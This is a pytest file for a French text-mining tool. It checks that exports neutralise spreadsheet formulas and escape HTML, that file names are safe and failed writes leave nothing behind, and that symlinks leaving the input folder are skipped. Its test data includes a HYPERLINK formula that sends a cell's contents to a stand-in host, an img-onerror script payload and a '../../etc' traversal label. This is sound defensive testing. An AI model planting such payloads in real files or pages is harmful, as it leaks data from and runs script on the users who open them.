"""Issue 20, items 10-14: outputs and paths.

10. spreadsheet formula injection (CSV/XLSX) and HTML in Markdown quote banks;
11. wave labels and ids are data, file names are slugs;
12. unwritable, read-only or full places give E602/E011 and nothing half-written; search reads a
    read-only project;
13. a truncated store is E009 with the way back, and runs keep bounded last-good copies;
14. links leaving the input folder are not followed; a moved project names the path to fix.
"""
from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from .hostile_helpers import ITV, assert_clean, assert_coded, flat, unwritable_dir, write_itv
from textmine.errors import TextmineError
from textmine.store import Store

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A2,"clic")'
HTML = '<img src=x onerror="alert(1)">'


def _search_store(root: Path, **changes) -> Path:
    from helpers_search import make_store
    st = make_store(root)
    for col, value in changes.items():
        st.con.execute(f"UPDATE interviews SET {col} = ?", [value])
    st.close()
    return root


def _quotes_frame() -> pd.DataFrame:
    from textmine.export.quotes import QUOTE_COLUMNS
    row = {c: "" for c in QUOTE_COLUMNS}
    row.update({"quote_id": "Q-1", "theme": "precarite", "theme_label": "Précarité", "wave": "=1+1", "role": "conum",
                "role_label": "Conum", "rank": 1, "quote": "- Je remplis le dossier avec elle.",
                "attribution": f"(Conum, {HTML}, vague =1+1)", "citation": "« x »", "source": "@SUM(A1:A9)",
                "territory": FORMULA, "structure_type": "+33 6 00", "interview_id": "I1", "segment_id": "I1:0001:00",
                "score": 0.9, "n_words": 7})
    return pd.DataFrame([row], columns=QUOTE_COLUMNS)


# ------------------------------------------------------------------ 10. formula injection, HTML
def test_csv_xlsx_cells_never_evaluate_and_markdown_escapes_html(tmp_path):
    from textmine.export.quotes import write_quotes
    df = _quotes_frame()
    prov = {"wave": "=2023", "codebook": FORMULA}
    write_quotes(df, tmp_path / "q.csv", provenance=prov)
    rows = list(csv.reader(io.StringIO((tmp_path / "q.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
    assert "'" + FORMULA in cells and "'- Je remplis le dossier avec elle." in cells
    write_quotes(df, tmp_path / "q.xlsx", provenance=prov)
    wb = openpyxl.load_workbook(tmp_path / "q.xlsx")
    for ws in wb.worksheets:                                     # quotes and provenance sheets
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert FORMULA in texts and "=1+1" in texts and "=2023" in texts        # kept as text, unchanged
    write_quotes(df, tmp_path / "q.md")
    md = (tmp_path / "q.md").read_text(encoding="utf-8")
    assert "<img" not in md and "&lt;img" in md


def test_segments_export_and_cli_csv_are_formula_safe(tmp_path, cli):
    proj = _search_store(tmp_path / "p", territory=FORMULA, wave="@2023")
    out = tmp_path / "seg.csv"
    assert cli("--project", proj, "segments", "export", "-o", out).exit_code == 0
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert (df["territory"] == "'" + FORMULA).all() and (df["wave"] == "'@2023").all()
    res = cli("--project", proj, "corpus", "--format", "csv")
    assert res.exit_code == 0 and "'@2023" in res.stdout and "\n@2023" not in res.stdout
    assert_clean(cli, proj)


def test_coded_csv_round_trips_through_the_formula_guard(tmp_path):
    from textmine.export.cells import to_csv
    from textmine.themes.codebook import load_codebook
    from textmine.export.coded import read_coded
    df = pd.DataFrame({"id": ["a", "b"], "text": ["- Je fais avec eux, ils tapent.", "=plus de budget"],
                       "themes": ["posture_faire_avec_vs_a_la_place", "financement_renouvellement"]})
    to_csv(df, tmp_path / "c.csv")
    back = read_coded(tmp_path / "c.csv", load_codebook())
    assert back["text"].tolist() == df["text"].tolist()



def test_lexicon_outputs_are_formula_safe_and_checked_before_the_work(tmp_path, cli, monkeypatch):
    """The concordance CSV and the class assignments go through the cell helper; an unwritable
    destination is E602 before any lemmatising or classification."""
    import textmine.lexicon
    from helpers_lexicon import build_lexicon_store
    st, _ = build_lexicon_store(tmp_path / "p")
    sid = st.segments_frame(roles="respondents")["segment_id"].iloc[0]
    st.con.execute("UPDATE segments SET text_pseudo = ?, text = ? WHERE segment_id = ?",
                   ["=1+1 pour aider la dame", "=1+1 pour aider la dame", sid])
    st.close()
    out = tmp_path / "kwic.csv"
    res = cli("--project", tmp_path / "p", "lexicon", "kwic", "aider", "--output", out)
    assert res.exit_code == 0, res
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert "'=1+1 pour" in cells                              # the left context of the planted line
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    xlsx = tmp_path / "kwic.xlsx"
    res = cli("--project", tmp_path / "p", "lexicon", "kwic", "aider", "--output", xlsx)
    assert res.exit_code == 0, res
    left = [c for c in openpyxl.load_workbook(xlsx)["concordance"]["B"] if str(c.value).startswith("=1+1")]
    assert left and all(c.data_type == "s" for c in left)       # text, not a formula

    def no_work(*a, **k):
        raise AssertionError("the work started before the destination was checked")
    monkeypatch.setattr(textmine.lexicon, "concordance", no_work)
    monkeypatch.setattr(textmine.lexicon, "fit_classes", no_work)
    bad = unwritable_dir(tmp_path)
    assert_coded(cli("--project", tmp_path / "p", "lexicon", "kwic", "aider", "-o", bad / "k.csv"), "E602")
    assert_coded(cli("--project", tmp_path / "p", "lexicon", "classes", "--assignments", bad / "a.csv"), "E602")
    assert_coded(cli("--project", tmp_path / "p", "themes", "sample", "-o", bad / "s.xlsx"), "E602")

# ------------------------------------------------------------------ 11. labels in file names
def test_wave_labels_with_slashes_and_formulas_make_safe_file_names(tmp_path, cli):
    from helpers_track import build_store
    from textmine.pipeline import save_manifest
    from textmine.records import safe_name
    from textmine.report import write_report
    st = build_store(tmp_path / "p", n_per_wave=6, segs_per_interview=6, n_panel=3, waves=("2023/24", "=1+1"),
                     topics=False)
    out = st.outputs_dir / "report.html"
    write_report(st, out)
    figs = sorted(p.name for p in (st.outputs_dir / "report_figures").iterdir())
    assert figs and all("/" not in f and not f.startswith("=") for f in figs)
    assert any(f.startswith("changes_") and "2023_24" in f for f in figs), figs
    assert not (st.outputs_dir / "report_figures" / "changes_2023_2023").exists()
    html = out.read_text(encoding="utf-8")
    assert "2023/24" in html                                     # the label stays as data
    for wave in ("2023/24", "=1+1", "../../etc"):
        name = safe_name(wave)
        assert "/" not in name and not name.startswith((".", "=")) and safe_name(wave) == name
    run_id = f"20260101T000000Z-w{safe_name('2023/24')}"
    path = save_manifest(st, {"run_id": run_id, "wave": "2023/24", "started_at": "x", "finished_at": "y",
                              "corpus_hash": "h"})
    assert path.parent == st.root / "runs" and path.exists()
    st.close()
    res = cli("--project", tmp_path / "p", "runs", "show", run_id)
    assert res.exit_code == 0 and json.loads(res.stdout)["wave"] == "2023/24"
    assert_clean(cli, tmp_path / "p")


# ------------------------------------------------------------------ 12. unwritable places
def test_unwritable_outputs_are_e602_and_write_nothing(tmp_path, cli):
    proj = _search_store(tmp_path / "p")
    bad = unwritable_dir(tmp_path)
    for args in (["segments", "export", "-o", bad / "s.csv"], ["export", "qdpx", "-o", bad / "p.qdpx"],
                 ["report", "-o", bad / "r.html"]):
        res = cli("--project", proj, *args)
        assert_coded(res, "E602")
    assert not [p for p in bad.iterdir()] if bad != Path("/sys") else True
    file_as_folder = tmp_path / "fichier.txt"
    file_as_folder.write_text("x", encoding="utf-8")
    assert_coded(cli("--project", proj, "segments", "export", "-o", file_as_folder / "s.csv"), "E602")
    assert_coded(cli("--project", proj, "segments", "export", "-o", tmp_path), "E602")     # a folder
    from textmine.export.quotes import write_quotes
    with pytest.raises(TextmineError) as ei:
        write_quotes(_quotes_frame(), bad / "q.xlsx")
    assert ei.value.code == "E602"
    assert_clean(cli, proj)


def test_unwritable_quote_bank_and_classify_output_refused_before_any_work(tmp_path, cli, monkeypatch):
    from textmine.embed import registry

    def no_encoder(*a, **k):
        raise AssertionError("the encoder was loaded before the destination was checked")
    # the registry builds every named encoder when asked: patching its builders (and emptying its
    # cache) reaches every caller, however late the CLI imports it, and leaves nothing behind
    monkeypatch.setattr(registry, "_CACHE", {})
    for name in list(registry.NAMED):
        monkeypatch.setitem(registry.NAMED, name, no_encoder)
    proj = _search_store(tmp_path / "p")
    bad = unwritable_dir(tmp_path)
    assert_coded(cli("--project", proj, "quotes", "export", "-o", bad / "q.docx"), "E602")
    (tmp_path / "in.csv").write_text("id,text\n1,Je remplis le dossier à sa place.\n", encoding="utf-8")
    assert_coded(cli("themes", "classify", "-i", tmp_path / "in.csv", "-o", bad / "out.jsonl"), "E602")
    assert_clean(cli, proj)


def test_project_on_a_file_or_an_unwritable_place_is_e009(tmp_path, cli, corpus_dir=None):
    src = write_itv(tmp_path / "w", "alpha.txt")
    a_file = tmp_path / "projet.txt"
    a_file.write_text("pas un dossier", encoding="utf-8")
    assert_coded(cli("--project", a_file, "ingest", src, "--wave", "1"), "E011")
    assert_coded(cli("run", src.parent, "--project", a_file, "--wave", "1"), "E011")
    assert a_file.read_text(encoding="utf-8") == "pas un dossier"
    bad = unwritable_dir(tmp_path)
    assert_coded(cli("--project", bad / "p", "ingest", src, "--wave", "1"), "E011")
    assert_coded(cli("run", src.parent, "--project", bad / "p", "--wave", "1"), "E011")


def test_full_disk_at_the_run_lock_is_e009(tmp_path, cli, monkeypatch):
    import builtins

    from textmine import runlock
    src = write_itv(tmp_path / "w", "alpha.txt")

    class Full:                     # the lock file on a disk with 0 bytes free
        def __init__(self, fh):
            self._fh = fh

        def write(self, s):
            raise OSError(errno.ENOSPC, "No space left on device")

        def __getattr__(self, name):
            return getattr(self._fh, name)

    def full_open(path, mode="r", **kw):
        fh = builtins.open(path, mode, **kw)
        return Full(fh) if str(path).endswith(runlock.LOCK_NAME) else fh

    monkeypatch.setattr(runlock, "open", full_open, raising=False)
    res = cli("run", src.parent, "--project", tmp_path / "p", "--wave", "1")
    assert_coded(res, "E011")
    assert "No space left" in res.stderr and not (tmp_path / "p" / "textmine.duckdb").exists()


@pytest.mark.slow       # spaCy lemmas
def test_search_reads_a_read_only_project(tmp_path, cli, monkeypatch):
    proj = _search_store(tmp_path / "p")
    db = proj / "textmine.duckdb"
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    import textmine.cli.search as cs
    monkeypatch.setattr(cs, "project_writable", lambda root: False)     # as on a read-only disk
    res = cli("--project", proj, "search", "démarches administratives", "--mode", "keyword", "--format", "json")
    assert res.exit_code == 0, res
    assert json.loads(res.stdout) and "Traceback" not in res.stderr
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before and not Path(str(db) + ".wal").exists()


# ------------------------------------------------------------------ 13. truncated store, last good copy
def test_truncated_store_is_e007_with_the_way_back(tmp_path, cli):
    proj = _search_store(tmp_path / "p")
    with Store(proj) as st:
        for k in range(3):
            copy = st.backup(f"run-{k}")
            os.utime(copy, (1_000_000 + k, 1_000_000 + k))
    kept = sorted(p.name for p in (proj / "backups").iterdir())
    assert kept == ["run-1.duckdb", "run-2.duckdb"]                       # bounded: the last two
    db = proj / "textmine.duckdb"
    size = db.stat().st_size
    for keep in (size // 2, size - 4096):
        shutil.copy(proj / "backups" / "run-2.duckdb", db)
        with open(db, "r+b") as fh:
            fh.truncate(keep)
        for args in (["corpus"], ["check"], ["segments", "export", "-o", tmp_path / "s.csv"]):
            res = cli("--project", proj, *args)
            assert_coded(res, "E009")
            assert "run-2.duckdb" in res.stderr and "cp " in res.stderr
    shutil.copy(proj / "backups" / "run-2.duckdb", db)                  # the way back works
    assert cli("--project", proj, "corpus").exit_code == 0
    assert_clean(cli, proj)


@pytest.mark.slow        # the demo project (built once per session for the tracking tests too)
def test_runs_keep_a_bounded_last_good_copy(demo_project, cli):
    copies = list((demo_project / "backups").glob("*.duckdb"))
    assert 1 <= len(copies) <= 2
    with Store(copies[0].parent.parent, read_only=True) as live:
        n = live.query("SELECT count(*) AS n FROM segments")["n"][0]
    import duckdb
    con = duckdb.connect(str(max(copies, key=lambda p: p.stat().st_mtime)), read_only=True)
    assert con.execute("SELECT count(*) FROM segments").fetchall()[0][0] == n
    con.close()


# ------------------------------------------------------------------ 14. links, moved projects
@pytest.mark.slow        # real ingest
def test_links_leaving_the_input_folder_are_not_followed(tmp_path, cli):
    outside = write_itv(tmp_path / "ailleurs", "secret.txt", ITV["gamma"])
    d = tmp_path / "vague"
    write_itv(d, "alpha.txt")
    (d / "lien.txt").symlink_to(outside)
    inside = write_itv(d / "_sources", "beta.txt")          # `_` folders are not ingested themselves...
    (d / "interne.txt").symlink_to(inside)                   # ...but a link to a file inside the folder is read
    proj = tmp_path / "p"
    res = cli("--project", proj, "ingest", d, "--wave", "1")
    assert res.exit_code == 0 and "not followed" in flat(res.stderr) and "lien.txt" in res.stderr, res
    with Store(proj, read_only=True) as st:
        assert st.query("SELECT count(*) AS n FROM interviews")["n"][0] == 2
        assert "souris" not in " ".join(st.query("SELECT text FROM turns")["text"])
    assert_clean(cli, proj)


def test_moved_project_names_the_config_path_to_fix(tmp_path, cli):
    names = tmp_path / "config" / "noms.txt"
    names.parent.mkdir()
    names.write_text("Gaëlle Fromentin\n", encoding="utf-8")
    cfg = tmp_path / "config" / "etude.yaml"
    cfg.write_text("pseudonymise:\n  user_list: noms.txt\n", encoding="utf-8")
    Store(tmp_path / "proj", create=True, config_path=cfg).close()
    moved = Path(shutil.copytree(tmp_path / "proj", tmp_path / "ailleurs" / "profond" / "proj"))
    res = cli("--project", moved, "corpus")
    assert_coded(res, "E001")
    assert f"{moved / 'textmine.yaml'}:" in res.stderr and "pseudonymise.user_list" in res.stderr
    assert "noms.txt" in res.stderr
    res = cli("--project", tmp_path / "proj", "corpus")            # in place, it still works
    assert res.exit_code == 0, res


def test_a_store_on_a_read_only_disk_or_a_full_one_says_which(tmp_path):
    """DuckDB's refusals to write said "[E004] The project store could not be opened ... Fix: Check
    the file is a textmine DuckDB store": a project on a read-only disk (a shared folder, a
    mounted archive) now gets E011 with the way on (copy it; the read-only commands), a full disk
    E011 with "free space"; a damaged file stays E009."""
    import duckdb

    from textmine.recovery import store_error
    ro = store_error(duckdb.IOException('IO Error: Cannot open file "p/textmine.duckdb": Read-only file system'),
                     tmp_path)
    assert ro.code == "E011" and "read-only" in ro.detail and "Copy the project folder" in ro.fix
    full = store_error(duckdb.IOException('Could not write file "p/textmine.duckdb.wal": No space left on device'),
                       tmp_path)
    assert full.code == "E011" and "Free space" in full.fix
    bad = store_error(duckdb.Error("Corrupt database file: computed checksum 1 does not match"), tmp_path)
    assert bad.code == "E009"
